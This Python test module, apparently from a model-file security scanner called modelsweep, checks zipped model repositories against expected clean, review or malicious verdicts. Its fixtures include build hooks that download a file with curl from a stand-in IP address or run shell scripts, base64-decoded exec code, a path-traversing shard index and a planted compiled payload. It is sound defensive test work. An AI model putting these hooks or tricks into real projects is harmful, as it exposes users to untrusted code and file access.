"""Repositories in one archive: what its members make of each other. Loose files are in test_repository.py."""

from __future__ import annotations

from dataclasses import replace

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.python_compiled.cases import CHECKED, PAYLOAD, compiled
from tests.scanners.repository.layouts import (
    COMPILED,
    DIFFUSERS,
    MALICIOUS,
    MODELING,
    OTHER_INDEX,
    SENTENCES,
    SHARD,
    SHARDED,
    TRANSFORMERS,
    Files,
    changed,
    index,
)
from tests.scanners.zip.cases import made

CLASS = b"import os\nclass Anything:\n    def predict(self, context, data):\n        os.system('sh run.sh')\n"
MLMODEL = b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n"
EXEC = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"


BACKEND = b'[build-system]\nrequires = []\nbuild-backend = "own:hooks"\nbackend-path = ["build"]\n'
RUNS = b"import subprocess\nsubprocess.run('curl http://192.0.2.1/x -o y', shell=True)\n"
QUIET = b"from setuptools.build_meta import *\nimport subprocess\nsubprocess.run(['git', 'describe'])\n"
STEP = b"import os\nfrom build import Step\nclass Own(Step):\n    def run(self):\n        os.system('sh fetch.sh')\n"
HATCH = (
    b"import os, subprocess\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
    b"class CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        "
)
FETCHES = HATCH + b"os.system('sh fetch.sh')\n"
ASKS_GIT = HATCH + b"build_data['rev'] = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
BUILT = {
    "hatch": (b"[tool.hatch.build.hooks.custom]\n", "hatch_build.py", FETCHES),
    "hatch_for_a_target": (
        b"[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'tools/own.py'\n",
        "tools/own.py",
        FETCHES,
    ),
    "hatch_for_a_version": (b"[tool.hatch.version]\nsource = 'code'\npath = 'net/v.py'\n", "net/v.py", STEP),
    "pdm": (b"[build-system]\nbuild-backend = 'pdm.backend'\n", "pdm_build.py", STEP),
    "pdm_by_path": (b"[tool.pdm.build]\ncustom-hook = 'tools/own.py'\n", "tools/own.py", STEP),
    "poetry": (b"[tool.poetry.build]\nscript = 'build.py'\n", "build.py", STEP),
    "poetry_before": (b"[tool.poetry]\nbuild = 'build.py'\n", "build.py", STEP),
    "setuptools": (b"[tool.setuptools.cmdclass]\nbuild_py = 'tools.own.Own'\n", "tools/own.py", STEP),
}
"""What projects say, the file that building them runs, and a file that runs something when it is built."""


TASK = b"task: t\nprocess_docs: !function utils.process_docs\nmetric_list: [{metric: !function utils.exact}]\n"
HELPERS = b"import os\nos.environ['HF_ALLOW_CODE_EVAL'] = '1'\ndef process_docs(d):\n    %s\n    return d\n"


def zipped(files: Files, verdict: Verdict) -> Case:
    """Return the case of a repository below a folder of a zip."""
    return Case(lambda: made(*((f"acme/{name}", data) for name, data in files.items())), "model.zip", verdict)


CASES = {
    "task_with_functions": zipped(
        {"task.yaml": TASK, "utils.py": HELPERS % b"os.system('echo modelsweep-test')"}, Verdict.REVIEW
    ),
    "benign_task_with_functions": zipped({"task.yaml": TASK, "utils.py": HELPERS % b"pass"}, Verdict.CLEAN),
    "benign_transformers": zipped(TRANSFORMERS, Verdict.CLEAN),
    "benign_diffusers": zipped(DIFFUSERS, Verdict.CLEAN),
    "benign_sentence_transformers": zipped(SENTENCES, Verdict.CLEAN),
    "benign_code_elsewhere": zipped({"config.json": TRANSFORMERS["config.json"]}, Verdict.CLEAN),
    "imported_file_runs_command": zipped(MALICIOUS["import_of_import"][0], Verdict.MALICIOUS),
    "mlflow_class_runs_command": zipped({"MLmodel": MLMODEL, "code/acme/net.py": CLASS}, Verdict.REVIEW),
    "benign_mlflow_class_beside": zipped({"MLmodel": MLMODEL, "other/net.py": CLASS}, Verdict.CLEAN),
    "benign_mlflow_code": zipped({"MLmodel": MLMODEL, "code/acme/net.py": b"class Net: ...\n"}, Verdict.CLEAN),
    "pipeline_runs_command": zipped(MALICIOUS["known_component_of_its_own"][0], Verdict.MALICIOUS),
    "model_decodes_code": zipped(changed(TRANSFORMERS, modeling_acme=MODELING + EXEC), Verdict.MALICIOUS),
    "target_runs_command": zipped(MALICIOUS["target"][0], Verdict.REVIEW),
    "build_backend_runs_command": zipped({"pyproject.toml": BACKEND, "build/own.py": RUNS}, Verdict.MALICIOUS),
    "benign_build_backend": zipped({"pyproject.toml": BACKEND, "build/own.py": QUIET}, Verdict.CLEAN),
    **{
        f"build_runs_file_of_{name}": zipped({"pyproject.toml": says, file: code}, Verdict.REVIEW)
        for name, (says, file, code) in BUILT.items()
    },
    **{
        f"build_runs_command_of_{name}": zipped({"pyproject.toml": says, file: RUNS}, Verdict.MALICIOUS)
        for name, (says, file, _) in BUILT.items()
    },
    "build_runs_file_of_hatch_alone": zipped(
        {"hatch.toml": b"[build.hooks.custom]\n", "hatch_build.py": FETCHES}, Verdict.REVIEW
    ),
    "benign_hook_of_hatch": zipped({"pyproject.toml": BUILT["hatch"][0], "hatch_build.py": ASKS_GIT}, Verdict.CLEAN),
    "benign_file_that_no_build_runs": zipped(
        {"pyproject.toml": b"[tool.hatch.version]\npath = 'net/v.py'\n", "net/v.py": STEP}, Verdict.CLEAN
    ),
    "benign_shards": zipped(SHARDED, Verdict.CLEAN),
    "shards_of_another_index": zipped({**SHARDED, "model.safetensors.index.json": OTHER_INDEX}, Verdict.CLEAN),
    "index_alone": Case(lambda: SHARDED["model.safetensors.index.json"], "model.safetensors.index.json", Verdict.CLEAN),
    "shard_alone": Case(lambda: SHARDED[SHARD], SHARD, Verdict.CLEAN),
    "index_that_leads_out": Case(
        lambda: index({"a": "../../other/model-00001-of-00001.safetensors"}),
        "m.safetensors.index.json",
        Verdict.MALICIOUS,
    ),
    "cache_replaces_source": replace(
        zipped(
            {
                "net.py": b"def forward(x):\n    return x\n",
                "__pycache__/net.cpython-311.pyc": compiled(PAYLOAD, CHECKED),
            },
            Verdict.MALICIOUS,
        ),
        compiled=True,
    ),
    "compiled_model": replace(zipped(COMPILED, Verdict.REVIEW), compiled=True),
}
